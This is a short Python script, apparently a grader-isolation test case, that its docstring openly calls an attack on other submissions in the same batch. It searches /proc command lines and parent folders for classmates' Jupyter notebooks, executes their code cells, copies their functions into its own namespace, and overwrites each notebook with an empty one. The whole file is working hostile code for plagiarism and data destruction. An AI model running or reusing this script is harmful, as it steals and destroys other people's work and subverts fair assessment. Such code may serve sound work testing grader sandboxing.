"""Attack: the other submissions of the same batch: run a classmate's notebook here (its
functions become this submission's) and overwrite every other notebook with the empty one.

The class folder is found from the command lines in /proc and from the folders above this
one (a submission's own folder is the class folder when the grader runs it in place).
"""

import json
import os

folders = set()
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            for arg in f.read().split(b"\0"):
                arg = arg.decode("utf-8", "replace")
                if os.path.isabs(arg) and os.path.isdir(arg):
                    folders.add(arg)
    except OSError:
        pass
folder = os.getcwd()
while folder != os.path.dirname(folder):
    folders.add(folder)
    folder = os.path.dirname(folder)

EMPTY = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
stolen = {}
for folder in folders:
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:
        path = os.path.join(folder, name)
        if not name.endswith(".ipynb") or not os.path.isfile(path):
            continue
        try:
            with open(path) as f:
                cells = json.load(f)["cells"]
            namespace = {}
            for cell in cells:
                if cell["cell_type"] == "code":
                    try:
                        exec("".join(cell["source"]), namespace)
                    except BaseException:
                        pass
            stolen.update({k: v for k, v in namespace.items() if callable(v)})
            with open(path, "w") as f:
                json.dump(EMPTY, f)
        except (OSError, ValueError, KeyError):
            pass
globals().update(stolen)
